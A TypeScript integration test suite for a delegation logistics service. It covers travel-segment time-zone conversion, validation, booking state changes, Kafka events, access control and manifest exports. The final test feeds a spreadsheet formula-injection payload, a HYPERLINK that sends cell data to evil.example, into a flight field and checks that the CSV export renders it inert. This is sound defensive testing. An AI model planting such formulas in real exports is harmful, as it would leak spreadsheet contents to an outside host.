import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { TestDatabase } from '@twinning/testing';
import { logisticsHarness } from './support/logistics-harness';

/**
 * Travel segments and manifests in-process on the real Postgres and Kafka: the delegation and its members arrive as
 * the delegations service publishes them; segments are checked against the bundled airport dataset and converted
 * from local wall clocks (overnight, across the date line, landing on the spring-forward night); the segment events
 * are read back from the broker; the manifests group by the local date at the airport.
 */
describe('logistics travel segments and manifests (real Postgres, real Kafka)', () => {
  const { orgA, d, t, causes, as, events, start, stop, baseUrl } = logisticsHarness('coordinator');
  const people = {
    lin: { memberId: randomUUID(), participantId: randomUUID(), givenName: 'Lin', familyName: 'Wei' },
    chen: { memberId: randomUUID(), participantId: randomUUID(), givenName: 'Chen', familyName: 'Jie' },
    ana: { memberId: randomUUID(), participantId: randomUUID(), givenName: 'Ana', familyName: 'Ruiz' },
  };
  const outsider = randomUUID();
  let db: TestDatabase;

  const flight = (over: object) => ({ mode: 'flight', carrier: 'NZ', number: '10', direction: 'arrival', memberIds: [people.lin.memberId], ...over });

  beforeAll(async () => {
    ({ db } = await start('logistics_travel', { title: 'Pacific exchange', hostCity: 'Honolulu', startDate: '2027-03-14', endDate: '2027-04-20' }, Object.values(people),
      { birthYear: 1985, gender: 'female', languages: ['en'], nationality: 'NZ' }));
  });

  afterAll(stop);

  it('stores an overnight flight, one across the date line and one landing on the spring-forward night in UTC and local time, and groups the manifest by local date', async () => {
    // London 21:00 BST (20:00Z) → Singapore 17:00 the next local day (09:00Z)
    const overnight = (await as(t.coordinator).post('/segments', flight({ from: 'LHR', to: 'SIN', carrier: 'SQ', number: '317', departureLocal: '2027-04-09T21:00', arrivalLocal: '2027-04-10T17:00',
      memberIds: [people.chen.memberId] })).expect(201)).body;
    expect(overnight).toMatchObject({ departureAt: '2027-04-09T20:00:00.000Z', departureTimeZone: 'Europe/London', arrivalAt: '2027-04-10T09:00:00.000Z', arrivalLocal: '2027-04-10T17:00',
      arrivalTimeZone: 'Asia/Singapore', arrivalDayOffset: 1, durationMinutes: 780, status: 'requested', from: { code: 'LHR', kind: 'airport' }, to: { code: 'SIN', city: 'Singapore' } });
    // Auckland 00:30 on the 11th (NZST, 10 April 12:30Z) → Honolulu 10:40 on the 10th (20:40Z): lands the previous calendar day
    const dateLine = (await as(t.coordinator).post('/segments', flight({ from: 'AKL', to: 'HNL', departureLocal: '2027-04-11T00:30', arrivalLocal: '2027-04-10T10:40',
      memberIds: [people.lin.memberId, people.ana.memberId], status: 'booked', bookingReference: 'NZ10ABC' })).expect(201)).body;
    expect(dateLine).toMatchObject({ departureAt: '2027-04-10T12:30:00.000Z', departureLocal: '2027-04-11T00:30', departureTimeZone: 'Pacific/Auckland', arrivalAt: '2027-04-10T20:40:00.000Z',
      arrivalLocal: '2027-04-10T10:40', arrivalTimeZone: 'Pacific/Honolulu', arrivalDayOffset: -1, durationMinutes: 490, status: 'booked', bookingReference: 'NZ10ABC' });
    // Honolulu 18:50 HST (04:50Z) → Los Angeles 03:10 PDT on 14 March 2027, the night the clocks jump from 02:00 to 03:00 (10:10Z, not 11:10Z as in PST)
    const dst = (await as(t.admin).post('/segments', flight({ from: 'HNL', to: 'LAX', carrier: 'HA', number: '2', departureLocal: '2027-03-13T18:50', arrivalLocal: '2027-03-14T03:10' })).expect(201)).body;
    expect(dst).toMatchObject({ departureAt: '2027-03-14T04:50:00.000Z', arrivalAt: '2027-03-14T10:10:00.000Z', arrivalLocal: '2027-03-14T03:10', arrivalTimeZone: 'America/Los_Angeles',
      durationMinutes: 320 });
    // 02:30 that night does not exist in Los Angeles
    const gap = await as(t.admin).post('/segments', flight({ from: 'HNL', to: 'LAX', departureLocal: '2027-03-13T18:50', arrivalLocal: '2027-03-14T02:30' })).expect(400);
    expect(gap.body).toMatchObject({ code: 'TRAVEL.LOCAL_TIME_DOES_NOT_EXIST', fields: [expect.objectContaining({ field: 'arrivalLocal' })] });

    const rows = await db.query<{ id: string; arrival_at: Date; arrival_local: string; arrival_time_zone: string }>(`SELECT id, departure_at, departure_local, departure_time_zone, arrival_at, arrival_local, arrival_time_zone FROM travel_segment WHERE delegation_id = $1 ORDER BY arrival_at`, [d]);
    expect(rows.map((r) => [r.id, r.arrival_at.toISOString(), r.arrival_local, r.arrival_time_zone])).toEqual([
      [dst.id, '2027-03-14T10:10:00.000Z', '2027-03-14T03:10', 'America/Los_Angeles'],
      [overnight.id, '2027-04-10T09:00:00.000Z', '2027-04-10T17:00', 'Asia/Singapore'],
      [dateLine.id, '2027-04-10T20:40:00.000Z', '2027-04-10T10:40', 'Pacific/Honolulu'],
    ]);

    const m = (await as(t.youth).get('/manifests/arrivals').expect(200)).body;
    expect(m.days.map((day: { date: string; airports: { code: string; entries: { time: string; travellers: { name: string }[] }[] }[] }) =>
      [day.date, day.airports.map((a) => [a.code, a.entries.map((e) => `${e.time} ${e.travellers.map((x) => x.name).join('/')}`)])])).toEqual([
      ['2027-03-14', [['LAX', ['03:10 Lin Wei']]]],
      ['2027-04-10', [['HNL', ['10:40 Ana Ruiz/Lin Wei']], ['SIN', ['17:00 Chen Jie']]]],
    ]);
    expect(m.total).toBe(4);
    const csv = await as(t.coordinator).get('/manifests/arrivals?format=csv').expect(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.text.trim().split('\n')).toEqual([
      'date,airport,airport_name,time,time_zone,utc,mode,carrier,number,from,to,status,booking_reference,traveller',
      `2027-03-14,LAX,Los Angeles International Airport,03:10,America/Los_Angeles,2027-03-14T10:10:00.000Z,flight,HA,2,HNL,LAX,requested,,Lin Wei`,
      `2027-04-10,HNL,${dateLine.to.name},10:40,Pacific/Honolulu,2027-04-10T20:40:00.000Z,flight,NZ,10,AKL,HNL,booked,NZ10ABC,Ana Ruiz`,
      `2027-04-10,HNL,${dateLine.to.name},10:40,Pacific/Honolulu,2027-04-10T20:40:00.000Z,flight,NZ,10,AKL,HNL,booked,NZ10ABC,Lin Wei`,
      `2027-04-10,SIN,${overnight.to.name},17:00,Asia/Singapore,2027-04-10T09:00:00.000Z,flight,SQ,317,LHR,SIN,requested,,Chen Jie`,
    ]);
    const html = await as(t.coordinator).get('/manifests/arrivals').set('accept', 'text/html').expect(200);
    expect(html.headers['content-type']).toMatch(/^text\/html/);
    expect(html.text).toContain('<h2>2027-04-10</h2>');
    expect(html.text).toContain('Ana Ruiz<br>Lin Wei');
    expect((await as(t.coordinator).get('/manifests/arrivals?includeRequested=false').expect(200)).body.total).toBe(2);

    // departures: grouped by the local date at the departure airport
    await as(t.coordinator).post('/segments', flight({ from: 'HNL', to: 'AKL', direction: 'departure', departureLocal: '2027-04-19T23:50', arrivalLocal: '2027-04-21T06:45',
      memberIds: [people.ana.memberId] })).expect(201);
    const dep = (await as(t.coordinator).get('/manifests/departures').expect(200)).body;
    expect(dep.days).toEqual([expect.objectContaining({ date: '2027-04-19', airports: [expect.objectContaining({ code: 'HNL', entries: [expect.objectContaining({ time: '23:50', to: 'AKL' })] })] })]);
  });

  it('rejects unknown airports, stations without a zone, non-members and an arrival before the departure, naming the field', async () => {
    const bad = async (body: object, field: string) => {
      const res = await as(t.coordinator).post('/segments', body).expect(400);
      expect(res.body.fields.map((f: { field: string }) => f.field)).toContain(field);
      return res.body;
    };
    expect(await bad(flight({ from: 'AKL', to: 'QQJ', departureLocal: '2027-04-11T00:30', arrivalLocal: '2027-04-10T10:40' }), 'to')).toMatchObject({ code: 'TRAVEL.UNKNOWN_AIRPORT' });
    await bad(flight({ from: 'Auckland', to: 'HNL', departureLocal: '2027-04-11T00:30', arrivalLocal: '2027-04-10T10:40' }), 'from');
    await bad({ mode: 'train', from: 'Fuzhou South', to: 'Xiamen North', departureLocal: '2027-04-09T08:00', arrivalLocal: '2027-04-09T09:30', direction: 'other',
      memberIds: [people.lin.memberId] }, 'fromTimeZone');
    await bad({ mode: 'train', from: 'Fuzhou South', fromTimeZone: 'Asia/Fuzhou', to: 'Xiamen North', toTimeZone: 'Asia/Shanghai', departureLocal: '2027-04-09T08:00',
      arrivalLocal: '2027-04-09T09:30', direction: 'other', memberIds: [people.lin.memberId] }, 'fromTimeZone');
    expect(await bad(flight({ from: 'AKL', to: 'HNL', departureLocal: '2027-04-11T00:30', arrivalLocal: '2027-04-10T10:40', memberIds: [outsider] }), 'memberIds'))
      .toMatchObject({ code: 'TRAVEL.NOT_A_MEMBER' });
    // 10:40 in Honolulu on the 10th is before 00:30 in Auckland on the 12th
    expect(await bad(flight({ from: 'AKL', to: 'HNL', departureLocal: '2027-04-12T00:30', arrivalLocal: '2027-04-10T10:40' }), 'arrivalLocal'))
      .toMatchObject({ code: 'TRAVEL.ARRIVAL_NOT_AFTER_DEPARTURE' });
    await bad(flight({ from: 'AKL', to: 'HNL', departureLocal: '2027-04-11 00:30', arrivalLocal: '2027-04-10T10:40' }), 'departureLocal');
    await bad(flight({ from: 'AKL', to: 'HNL', toTimeZone: 'Asia/Tokyo', departureLocal: '2027-04-11T00:30', arrivalLocal: '2027-04-10T10:40' }), 'toTimeZone');
    // a train between stations in an explicit zone
    const train = (await as(t.coordinator).post('/segments', { mode: 'train', carrier: 'CR', number: 'D3101', from: 'Fuzhou South', fromTimeZone: 'Asia/Shanghai', to: 'Xiamen North',
      toTimeZone: 'Asia/Shanghai', departureLocal: '2027-04-09T08:00', arrivalLocal: '2027-04-09T09:30', direction: 'other', memberIds: [people.lin.memberId] }).expect(201)).body;
    expect(train).toMatchObject({ from: { kind: 'station', code: 'Fuzhou South', timeZone: 'Asia/Shanghai' }, departureAt: '2027-04-09T00:00:00.000Z', arrivalDayOffset: 0 });
  });

  it('moves requested → booked → cancelled, publishes segment.booked, .changed and .cancelled and tells the features', async () => {
    const s = (await as(t.coordinator).post('/segments', flight({ from: 'SEA', to: 'HNL', carrier: 'AS', number: '843', departureLocal: '2027-04-10T08:00', arrivalLocal: '2027-04-10T11:20',
      memberIds: [people.chen.memberId] })).expect(201)).body;
    await as(t.coordinator).post(`/segments/${s.id}/book`, { bookingReference: 'AS843X' }).expect(200);
    expect((await as(t.admin).post(`/segments/${s.id}/book`, {}).expect(409)).body.code).toBe('SEGMENT.TRANSITION_NOT_ALLOWED');
    // delayed two hours, and Ana joins
    const changed = (await as(t.coordinator).patch(`/segments/${s.id}`, { departureLocal: '2027-04-10T10:00', arrivalLocal: '2027-04-10T13:20',
      memberIds: [people.chen.memberId, people.ana.memberId], version: 2 }).expect(200)).body;
    expect(changed).toMatchObject({ status: 'booked', bookingReference: 'AS843X', arrivalAt: '2027-04-10T23:20:00.000Z', version: 3 });
    expect((await as(t.coordinator).patch(`/segments/${s.id}`, { number: '845', version: 2 }).expect(409)).body.code).toBe('SEGMENT.VERSION_CONFLICT');
    await as(t.coordinator).post(`/segments/${s.id}/cancel`).expect(200);
    expect((await as(t.coordinator).post(`/segments/${s.id}/cancel`).expect(200)).body.status).toBe('cancelled');
    expect((await as(t.coordinator).patch(`/segments/${s.id}`, { number: '845' }).expect(409)).body.code).toBe('SEGMENT.CANCELLED');
    expect((await as(t.youth).get(`/segments?status=cancelled`).expect(200)).body.items.map((x: { id: string }) => x.id)).toEqual([s.id]);

    const mine = (await events()).filter((e) => (e.payload as { segmentId: string }).segmentId === s.id);
    expect(mine.map((e) => e.type)).toEqual(['segment.booked', 'segment.changed', 'segment.cancelled']);
    expect(mine[1].payload).toMatchObject({ changed: ['departureAt', 'departureLocal', 'arrivalAt', 'arrivalLocal', 'memberIds'], arrivalAt: '2027-04-10T23:20:00.000Z',
      arrivalLocal: '2027-04-10T13:20', arrivalTimeZone: 'Pacific/Honolulu', from: 'SEA', to: 'HNL', status: 'booked' });
    expect([...(mine[1].payload as { memberIds: string[] }).memberIds].sort()).toEqual([people.chen.memberId, people.ana.memberId].sort());
    expect(mine.every((e) => e.organisationId === orgA && e.aggregateId === d)).toBe(true);
    expect(causes).toEqual(expect.arrayContaining(['segment.requested', 'segment.booked', 'segment.changed', 'segment.cancelled']));
  });

  it('lets staff of the organisation read, coordinators and admins write, and refuses hosts and other organisations', async () => {
    const body = flight({ from: 'AKL', to: 'HNL', departureLocal: '2027-04-11T00:30', arrivalLocal: '2027-04-10T10:40' });
    await as(t.youth).get('/segments').expect(200);
    await as(t.youth).post('/segments', body).expect(403);
    await as(t.host).get('/segments').expect(403);
    await as(t.host).get('/manifests/arrivals').expect(403);
    await as(t.other).get('/segments').expect(404);
    await as(t.other).post('/segments', body).expect(404);
    await as(t.other).get('/manifests/departures?format=csv').expect(404);
    await request(baseUrl()).get(`/api/logistics/delegations/${d}/segments`).expect(401);
    await as(t.coordinator).get(`/segments/${randomUUID()}`).expect(404);
  });

  it('prints a carrier, flight number or booking reference that a spreadsheet would run as a formula inert in the manifest CSV', async () => {
    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
    await as(t.coordinator).post('/segments', flight({ from: 'HNL', to: 'SYD', direction: 'departure', departureLocal: '2027-04-20T09:00', arrivalLocal: '2027-04-21T17:00',
      carrier: formula, number: '+1', status: 'booked', bookingReference: '@SUM(A1)', memberIds: [people.chen.memberId] })).expect(201);
    const csv = (await as(t.coordinator).get('/manifests/departures?format=csv').expect(200)).text;
    const row = csv.split('\n').find((l) => l.includes('SYD'))!;
    expect(row).toContain(`,flight,"'=HYPERLINK(""https://evil.example/?q=""&A1,""Open"")",'+1,HNL,SYD,booked,'@SUM(A1),Chen Jie`);
  });
});
